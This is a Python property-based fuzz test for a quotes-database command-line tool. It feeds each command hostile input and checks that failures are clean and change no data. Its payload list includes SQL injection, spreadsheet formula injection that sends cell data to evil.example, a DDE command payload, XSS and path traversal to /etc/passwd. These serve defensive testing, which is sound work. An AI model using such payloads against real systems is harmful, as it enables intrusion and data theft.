"""Property-based fuzzing of every command through the CLI (hypothesis).

Each example runs one ``quotes`` command, built from hostile values (control
characters, undecodable bytes, invisible characters, spreadsheet formulas,
SQL and full-text syntax, huge ids, impossible dates, odd URLs, random CSV and
JSON Lines bytes, outputs that are the database or the input), against a
seeded database on SQLite and PostgreSQL, and checks the contract:

* the exit code is 0, 1 or 2;
* no internal error ("unexpected ...") and no traceback reaches the user;
* a command that fails changes nothing (a dump of every table before and
  after is identical).

``make test`` runs a bounded number of examples (``QUOTES_FUZZ_EXAMPLES``,
default 25 per test and back end); ``make fuzz`` runs many more. The
embedding-model commands (embed, stance assign, cluster, demo, semantic and
hybrid search) are left out: loading the model costs seconds per example, and
their inputs (topic, speaker, limits) are the ones fuzzed here through the
other commands. ``QUOTES_FUZZ_REPORT`` names a JSON Lines file that each test
appends its case count and exit codes to.
"""

from __future__ import annotations

import json
import os
import string
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import MetaData, select

from quotes.store.engine import open_database

EXAMPLES = int(os.environ.get("QUOTES_FUZZ_EXAMPLES", "25"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
    derandomize=os.environ.get("QUOTES_FUZZ_RANDOM") != "1",
)

# -- hostile values --------------------------------------------------------------------

SPECIAL = (
    "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9f\t\n\r \u00a0\u00ad\u200b\u200c\u200d\u2060\ufeff"
    "\u202e\u2028\u2029\u0301\u00b2\u00bd\u0660\u0662\uff12\u2212\u201c\u201d\u2019«»"
    "=+-@'\";,|*^:()<>&%_\\/{}[]~`$#!?NEARANDORNOT"
)
SURROGATES = ["\udcff", "Fr\udce9deriksen", "\udc80\udc80", "ok\udcc3("]
PAYLOADS = [
    "'; DROP TABLE quotes; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "'",
    "''=x",
    '"unclosed phrase',
    "NEAR(a b",
    "a* OR ^b:c",
    "<script>alert(1)</script>",
    "%s %d {0} {name}",
    "../../etc/passwd",
    "Mette Frederiksen",
    "Trump",
    "sovereignty",
    "The bill is 10² billion",
    "x" * 20_001,
    "\u200b",
    " ",
    "",
]
#: Ordinary words, so that examples also reach the paths behind validation.
plain_text = st.text(alphabet=string.ascii_letters + "  .,'’éøå", min_size=1, max_size=40).filter(
    lambda value: value.strip() != ""
)
hostile_text = st.one_of(
    plain_text,
    plain_text,
    st.text(alphabet=st.characters(codec="utf-8"), max_size=40),
    st.text(alphabet=SPECIAL + string.ascii_letters, max_size=30),
    st.sampled_from(PAYLOADS + SURROGATES),
)
dates = st.one_of(
    st.sampled_from(
        [
            "2026-01-22",
            "2026-01",
            "2026",
            "2026-02-30",
            "0000",
            "9999-12-31",
            "2026-13",
            "٢٠٢٦-٠١",
            "２０２６",
            "2026-1-1",
            "20260",
            "",
            " 2026 ",
            "2026\n",
            "1-1-1",
            "-2026",
        ]
    ),
    st.text(alphabet="0123456789-/ ٠١٢", max_size=12),
    hostile_text,
)
ids = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.integers(min_value=1, max_value=60).map(str),
    st.sampled_from(["0", "-1", "1.5", "1e3", "abc", "", "٣", str(2**31), str(2**63)]),
)
urls = st.one_of(
    st.sampled_from(
        [
            "https://example.org/a",
            "http://x",
            "javascript:alert(1)",
            "ftp://x/y",
            "https://",
            "https://example.org/" + "a" * 3000,
            "https://ex ample.org",
            "HTTPS://EXAMPLE.ORG/B",
            "https://example.org/\x00",
        ]
    ),
    hostile_text,
)
names = st.one_of(
    st.sampled_from(["Mette Frederiksen", "Donald Trump", "Mark Rutte", "Trump", "rutte"]),
    hostile_text,
)
topics = st.one_of(
    st.sampled_from(["sovereignty", "tariffs", "security", "Security"]), hostile_text
)
labels = st.one_of(st.sampled_from(["favor", "against", "neutral", "FAVOR"]), hostile_text)

COLUMNS = ["text", "speaker", "date", "source_url", "outlet", "context", "topics", "kind", "stance"]


@st.composite
def csv_bytes(draw: Any) -> bytes:
    """A CSV file: a header (sometimes wrong) and rows of hostile cells, in some encoding."""
    import csv
    import io

    header = draw(
        st.one_of(
            st.just(COLUMNS[:2]),
            st.just(COLUMNS[:2]),
            st.permutations(COLUMNS),
            st.lists(hostile_text),
        )
    )
    rows = draw(
        st.lists(
            st.lists(st.one_of(hostile_text, dates, urls, names), max_size=len(header) + 2),
            max_size=6,
        )
    )
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=draw(st.sampled_from(["\n", "\r\n", "\r"])))
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16-le", "latin-1"]))
    data = buffer.getvalue().encode(
        encoding, errors="surrogateescape" if encoding == "utf-8" else "replace"
    )
    return draw(st.one_of(st.just(data), st.binary(max_size=200), st.just(data[: len(data) // 2])))


@st.composite
def jsonl_bytes(draw: Any) -> bytes:
    value = st.one_of(
        hostile_text,
        st.integers(),
        st.floats(allow_nan=True),
        st.booleans(),
        st.none(),
        st.lists(hostile_text, max_size=3),
        st.dictionaries(hostile_text, hostile_text, max_size=2),
    )
    records = draw(
        st.lists(
            st.dictionaries(st.sampled_from([*COLUMNS, "sources", "stances", "x"]), value),
            max_size=6,
        )
    )
    lines = [json.dumps(record, ensure_ascii=draw(st.booleans())) for record in records]
    lines += draw(st.lists(st.sampled_from(["{", "[]", "null", '"x"', '{"text":1}']), max_size=2))
    data = "\n".join(lines).encode("utf-8", "surrogatepass")
    return draw(st.one_of(st.just(data), st.binary(max_size=200)))


# -- the commands ---------------------------------------------------------------------


def _sometimes(draw: Any) -> bool:
    return draw(st.integers(min_value=0, max_value=2)) == 0  # one time in three


def _flag(draw: Any, *flags: str) -> list[str]:
    return [flag for flag in flags if _sometimes(draw)]


def _option(draw: Any, name: str, values: Any) -> list[str]:
    return [name, draw(values)] if _sometimes(draw) else []


@st.composite
def record_commands(draw: Any) -> tuple[list[str], str | None]:
    """add, show, stance label, speakers and topics commands."""
    kind = draw(
        st.sampled_from(
            [
                "add",
                "add-stdin",
                "show",
                "label",
                "speakers-add",
                "alias",
                "merge",
                "topics-add",
                "speakers-list",
                "topics-list",
            ]
        )
    )
    if kind in ("add", "add-stdin"):
        text = draw(hostile_text)
        args = ["add", "-" if kind == "add-stdin" else text, "--speaker", draw(names)]
        args += _option(draw, "--date", dates) + _option(draw, "--source", urls)
        args += _option(draw, "--outlet", hostile_text) + _option(draw, "--context", hostile_text)
        args += _option(draw, "--topic", topics) + _flag(
            draw, "--paraphrase", "--json", "--new-speaker"
        )
        return args, text if kind == "add-stdin" else None
    if kind == "show":
        return ["show", draw(ids), *_flag(draw, "--json")], None
    if kind == "label":
        return [
            "stance",
            "label",
            draw(ids),
            "--topic",
            draw(topics),
            "--stance",
            draw(labels),
        ], None
    if kind == "speakers-add":
        args = ["speakers", "add", draw(names), *_option(draw, "--alias", names)]
        args += _option(draw, "--role", hostile_text) + _option(draw, "--country", hostile_text)
        return args, None
    if kind == "alias":
        return ["speakers", "alias", draw(names), draw(names)], None
    if kind == "merge":
        return ["speakers", "merge", draw(names), draw(names)], None
    if kind == "topics-add":
        return [
            "topics",
            "add",
            draw(topics),
            "--description",
            draw(hostile_text),
            "--favor",
            draw(hostile_text),
            "--against",
            draw(hostile_text),
        ], None
    listing = "speakers" if kind == "speakers-list" else "topics"
    return [listing, "list", *_flag(draw, "--json", "--csv", "--raw-cells", "--bom")], None


@st.composite
def curation_commands(draw: Any) -> tuple[list[str], str | None]:
    """edit, delete, history, restore, topic links and edits, speaker edits, unlabel."""
    kind = draw(
        st.sampled_from(
            [
                "edit",
                "delete",
                "history",
                "restore",
                "link",
                "unlink",
                "topics-edit",
                "speakers-edit",
                "role",
                "unlabel",
            ]
        )
    )
    if kind == "edit":
        args = ["edit", draw(ids), *_option(draw, "--text", hostile_text)]
        args += _option(draw, "--speaker", names) + _option(draw, "--date", dates)
        args += _option(draw, "--context", hostile_text)
        return args + _flag(draw, "--paraphrase", "--quote", "--merge", "--json"), None
    if kind == "delete":
        return ["delete", draw(ids), *_flag(draw, "--yes")], None
    if kind in ("history", "restore"):
        return [kind, draw(ids), *_flag(draw, "--json")], None
    if kind in ("link", "unlink"):
        return ["topics", kind, draw(ids), draw(topics)], None
    if kind == "topics-edit":
        args = ["topics", "edit", draw(topics), *_option(draw, "--description", hostile_text)]
        return args + _option(draw, "--favor", hostile_text), None
    if kind == "speakers-edit":
        args = ["speakers", "edit", draw(names), *_option(draw, "--name", names)]
        args += _option(draw, "--country", hostile_text) + _option(draw, "--wikidata", hostile_text)
        return args, None
    if kind == "role":
        args = ["speakers", "role", draw(names), "--role", draw(hostile_text)]
        return args + _option(draw, "--from", dates) + _option(draw, "--to", dates), None
    return ["stance", "unlabel", draw(ids), "--topic", draw(topics)], None


@st.composite
def read_commands(draw: Any, outputs: list[str]) -> tuple[list[str], str | None]:
    """search, export, timeline, shifts, db current/downgrade, backup."""
    kind = draw(st.sampled_from(["search", "export", "timeline", "shifts", "db", "backup"]))
    if kind == "search":
        args = [
            "search",
            draw(hostile_text),
            "--mode",
            draw(st.sampled_from(["text", "text", "x"])),
        ]
        args += _option(draw, "--speaker", names) + _option(draw, "--topic", topics)
        args += _option(draw, "--stance", labels) + _option(draw, "--since", dates)
        args += _option(draw, "--until", dates) + _option(draw, "--limit", ids)
        return args + _flag(draw, "--json", "--csv", "--raw-cells", "--bom"), None
    if kind == "export":
        args = ["export", "--format", draw(st.sampled_from(["csv", "jsonl", "parquet", "xml"]))]
        args += _option(draw, "--speaker", names) + _option(draw, "--topic", topics)
        args += _option(draw, "--since", dates) + _option(draw, "--until", dates)
        args += _option(draw, "--output", st.sampled_from(outputs))
        return args + _flag(draw, "--raw-cells", "--bom"), None
    if kind == "timeline":
        args = ["timeline", "--topic", draw(topics), "--speaker", draw(names)]
        args += ["--format", draw(st.sampled_from(["table", "csv", "json", "html", "svg"]))]
        args += _option(draw, "--by", st.sampled_from(["day", "month", "quarter", "year", "x"]))
        args += _option(draw, "--score", st.sampled_from(["mean", "logodds", "median"]))
        args += _option(draw, "--since", dates) + _option(
            draw, "--output", st.sampled_from(outputs)
        )
        return args + _flag(draw, "--raw-cells", "--bom"), None
    if kind == "shifts":
        args = ["shifts", *_option(draw, "--topic", topics), *_option(draw, "--speaker", names)]
        args += _option(draw, "--threshold", st.sampled_from(["0.5", "-1", "nan", "x", "1e308"]))
        return args + _flag(draw, "--json"), None
    if kind == "db":
        choice = draw(st.sampled_from(["current", "downgrade", "upgrade"]))
        if choice == "current":
            return ["db", "current"], None
        return [
            "db",
            choice,
            draw(st.one_of(st.sampled_from(["-1", "base", "0001", "x"]), hostile_text)),
        ], None
    return ["backup", draw(st.sampled_from(outputs))], None


@st.composite
def import_commands(draw: Any, outputs: list[str]) -> tuple[list[str], bytes]:
    fmt = draw(st.sampled_from(["csv", "jsonl", "tsv"]))
    data = draw(jsonl_bytes() if fmt == "jsonl" else csv_bytes())
    args = ["import", "INPUT", "--format", fmt]
    args += _option(
        draw, "--encoding", st.sampled_from(["utf-8", "utf-16", "latin-1", "utf-8,cp1252", "nope"])
    )
    args += _option(draw, "--map", st.sampled_from(["text=2,speaker=1", "text=x", "=", "t=1"]))
    args += _option(draw, "--date-format", st.sampled_from(["%d/%m/%Y", "%Y", "%Q", "%"]))
    args += _option(draw, "--rejects", st.sampled_from(outputs))
    args += _flag(draw, "--no-header", "--strict", "--dry-run", "--json", "--raw-cells")
    return args, data


@st.composite
def extract_commands(draw: Any) -> tuple[list[str], bytes]:
    article = draw(hostile_text)
    text = f'{article} "We cannot negotiate on our sovereignty," Frederiksen said. {article}'
    data = draw(st.one_of(st.just(text.encode("utf-8", "surrogatepass")), st.binary(max_size=120)))
    args = ["extract", "INPUT", *_flag(draw, "--save", "--json")]
    args += _option(draw, "--date", dates) + _option(draw, "--source", urls)
    return args, data


# -- the harness ----------------------------------------------------------------------


_TABLES: dict[str, MetaData] = {}


def dump(url: str) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table (the full-text index follows the quotes by trigger)."""
    database = open_database(url, migrate=False)
    with database.engine.connect() as connection:
        metadata = _TABLES.get(url)
        if metadata is None:
            metadata = _TABLES[url] = MetaData()
            metadata.reflect(connection)
        return {
            name: sorted(
                (tuple(repr(v) for v in row) for row in connection.execute(select(table))),
            )
            for name, table in metadata.tables.items()
            if not name.startswith("quotes_fts")
        }


class Harness:
    def __init__(self, cli: Any, folder: Path, name: str) -> None:
        self.cli = cli
        self.folder = folder
        self.name = name
        self.exits: Counter[int] = Counter()
        self.input = folder / "input.bin"
        self.input.write_bytes(b"text,speaker\n")
        self.outputs = self._outputs()

    def _outputs(self) -> list[str]:
        found = [
            str(self.folder / "out.csv"),
            str(self.folder),
            str(self.input),
            str(self.folder / "missing" / "x.csv"),
            str(self.folder / "out file ✓.json"),
        ]
        if "://" not in self.cli.url:
            link = self.folder / "link-to-db"
            if not link.exists():
                link.symlink_to(self.cli.url)
            found += [self.cli.url, f"{self.cli.url}-wal", f"{self.cli.url}-shm", str(link)]
        return found

    def run(self, args: list[str], stdin: str | bytes | None = None, data: bytes | None = None):
        if data is not None:
            self.input.write_bytes(data)
            args = [str(self.input) if a == "INPUT" else a for a in args]
        if isinstance(stdin, str):  # as a pipe would deliver it, undecodable bytes included
            stdin = stdin.encode("utf-8", "surrogateescape")
        before = dump(self.cli.url)
        result = self.cli.runner.invoke(_app(), [*args, "--db", self.cli.url], input=stdin)
        self.exits[result.exit_code] += 1
        shown = f"{args!r} -> {result.exit_code}: {result.output[-2000:]}"
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise AssertionError(f"uncaught {result.exception!r}: {shown}") from result.exception
        assert result.exit_code in (0, 1, 2), shown
        assert "unexpected" not in result.output.lower(), shown
        assert "Traceback" not in result.output, shown
        if result.exit_code != 0:
            assert dump(self.cli.url) == before, f"a failed command changed the data: {shown}"
        assert Path(self.cli.url).exists() or "://" in self.cli.url
        return result

    def report(self) -> None:
        path = os.environ.get("QUOTES_FUZZ_REPORT")
        if path:
            with open(path, "a", encoding="utf-8") as handle:
                record = {
                    "test": self.name,
                    "cases": sum(self.exits.values()),
                    "exits": dict(self.exits),
                }
                handle.write(json.dumps(record) + "\n")


def _app() -> Any:
    from quotes.cli.main import app

    return app


@pytest.fixture
def harness(
    seeded: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> Iterator[Harness]:
    monkeypatch.chdir(tmp_path)  # charts without --output land in the working folder
    # Typer rebuilds the whole click command tree at every invoke (~0.4 s);
    # build it once, so the examples measure the commands, not the parser.
    import typer.testing

    built: dict[int, Any] = {}
    original = typer.testing._get_command
    monkeypatch.setattr(
        typer.testing, "_get_command", lambda app: built.setdefault(id(app), original(app))
    )
    seeded.ok("stance", "label", "1", "--topic", "sovereignty", "--stance", "favor")
    made = Harness(seeded, tmp_path, request.node.name)
    yield made
    made.report()


@FUZZ
@given(data=st.data())
def test_fuzz_record_commands(harness: Harness, data: st.DataObject) -> None:
    args, stdin = data.draw(record_commands())
    harness.run(args, stdin=stdin)


@FUZZ
@given(data=st.data())
def test_fuzz_curation_commands(harness: Harness, data: st.DataObject) -> None:
    args, stdin = data.draw(curation_commands())
    harness.run(args, stdin=stdin)


@FUZZ
@given(data=st.data())
def test_fuzz_read_commands(harness: Harness, data: st.DataObject) -> None:
    args, stdin = data.draw(read_commands(harness.outputs))
    harness.run(args, stdin=stdin)


@FUZZ
@given(data=st.data())
def test_fuzz_import(harness: Harness, data: st.DataObject) -> None:
    args, payload = data.draw(import_commands(harness.outputs))
    harness.run(args, data=payload)


@FUZZ
@given(data=st.data())
def test_fuzz_extract(harness: Harness, data: st.DataObject) -> None:
    args, payload = data.draw(extract_commands())
    harness.run(args, data=payload)
